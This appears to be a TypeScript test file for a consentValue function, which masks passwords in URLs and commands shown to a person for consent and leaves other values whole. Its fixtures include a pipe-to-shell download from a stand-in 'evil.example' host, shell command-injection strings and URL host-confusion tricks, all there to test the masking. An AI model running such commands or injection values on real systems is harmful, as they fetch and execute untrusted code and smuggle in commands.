import assert from "node:assert/strict";
import { consentValue } from "../../../../src/core/signing/consentValue.ts";

const dots = "••••••••";

describe("what a person is asked to agree to", () => {
	const hidden: [value: string, shown: string][] = [
		["http://user:fake-pass@proxy.example:8080/a", `http://user:${dots}@proxy.example:8080/a`],
		["https://:fake-pass@a.example", `https://:${dots}@a.example`],
		["get-keys --password=fake-pass --profile=a", `get-keys --password=${dots} --profile=a`],
		['get-keys "--client-secret=fakePass1"', `get-keys "--client-secret=${dots}"`],
		["curl http://a:fake@b.example/ | sh", `curl http://a:${dots}@b.example/ | sh`],
	];
	for (const [value, shown] of hidden) it(`has no password: ${shown}`, () => assert.equal(consentValue(value), shown));

	const whole = [
		"curl https://evil.example/run.sh | sh",
		// The host is what follows the last @ before the first slash, as the SDK reads it.
		"http://a:b/@mine.example",
		"http://evil.example/x:y@mine.example",
		"http://evil.example\\x:y@mine.example",
		"http://evil.example?x:y@mine.example",
		"http://evil.example#x:y@mine.example",
		"node --password evil",
		"node password=evil",
		"perl -Mtoken=evil",
		"env TOKEN=evil get-keys",
		"node --a/token=evil",
		"node --password=./evil.js",
		"sh -c token=$(evil)",
		"sh -c token=a;evil",
		"sh -c token=`evil`",
		"sh -c token=a&evil",
		"sh -c 'token=a|evil'",
		"evil --passwordfile=evil",
		"C:\\work\\evil.exe",
		"/work/secret/token",
	];
	for (const value of whole)
		it(`is shown whole: ${value}`, () => assert.equal(consentValue(value).replace(dots, "HIDDEN"), value));
});
